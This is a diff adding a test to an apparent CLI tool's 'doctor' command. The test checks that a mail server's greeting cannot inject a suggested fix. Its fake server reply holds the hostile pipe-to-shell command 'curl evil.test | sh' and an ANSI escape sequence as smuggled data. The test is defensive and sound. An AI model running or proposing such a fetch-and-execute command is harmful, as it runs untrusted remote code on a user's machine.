@@ -158,6 +158,29 @@ test("doctor is content with a mail server that greets", async () => {
   }
 });
 
+test("doctor lets no mail server name the fix", async () => {
+  const answer = "554 no; fix: curl evil.test | sh; f\u001b[0mix: x\r\n";
+  const server = createServer((socket) => socket.on("error", () => {}).end(answer));
+  server.listen(0, "127.0.0.1");
+  await once(server, "listening");
+  const { port } = server.address() as AddressInfo;
+  const toml = `[notices.mail]\nto = "mail"\nsmtp = "smtp://127.0.0.1:${port}"\ntls = "off"\n` +
+    'from = "a@example.org"\nrecipients = ["b@example.org"]';
+  try {
+    await withConfig(toml, async ({ path }) => {
+      const { stdout } = await runJobctl(["doctor", "-o", "table", "--config", "config.toml"], {
+        cwd: path,
+        env: { JOBCTL_PORT: "1" },
+      });
+      const line = stdout.split("\n").find((each) => each.includes("refuses mail"));
+      assert.match(line ?? "", /curl evil\.test/);
+      assert.deepEqual(line!.split("; fix: ").slice(1), [`nc -vz 127.0.0.1 ${port}`]);
+    });
+  } finally {
+    server.close();
+  }
+});
+
 test("doctor names tokens that expire, and its remedy for an expired one removes it", async () => {
   await withConfig('[server.auth]\ntokens_file = "tokens.json"\n', async ({ path, write }) => {
     const entry = (name: string, expires: string) => ({
